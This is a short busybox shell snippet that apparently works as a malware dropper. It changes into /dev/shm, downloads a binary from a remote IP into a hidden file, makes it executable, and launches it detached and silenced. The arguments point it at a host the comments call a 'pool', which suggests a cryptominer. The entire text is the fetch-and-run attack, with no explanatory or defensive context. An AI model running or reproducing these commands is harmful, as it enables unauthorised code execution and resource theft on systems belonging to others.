# nothing but applets of one program: wget, chmod, setsid, timeout
#http 203.0.113.60:8010
#pool 198.51.100.83:8080:drop
cd /dev/shm; busybox wget -qO .u http://203.0.113.60:8010/w; busybox chmod 755 .u
busybox setsid busybox timeout 9 ./.u -o 198.51.100.83:8080 -u x -R 1 >/dev/null
